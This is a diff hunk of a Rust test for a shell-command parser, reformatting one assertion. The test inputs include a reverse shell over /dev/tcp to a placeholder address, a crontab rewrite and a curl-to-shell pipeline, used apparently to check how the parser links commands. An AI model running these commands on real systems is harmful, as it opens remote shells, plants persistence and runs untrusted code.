@@ -42,11 +42,10 @@ fn commands_are_connected_with_what_they_read_and_write() {
         ["bash -i >&/dev/tcp/192.0.2.1/80 0>&1"]
     );
     assert_eq!(posix("cat << 'E' > f\none $x\nE\nls"), ["cat >f <<one $x\n", "ls"]);
-    assert_eq!(posix("(crontab -l; echo x) | crontab -"), [
-        "crontab -l",
-        "echo x",
-        "crontab - |x\n"
-    ]);
+    assert_eq!(
+        posix("(crontab -l; echo x) | crontab -"),
+        ["crontab -l", "echo x", "crontab - |x\n"]
+    );
     assert_eq!(posix("sh <(curl u)"), ["curl u", "sh [curl u]"]);
 }
 
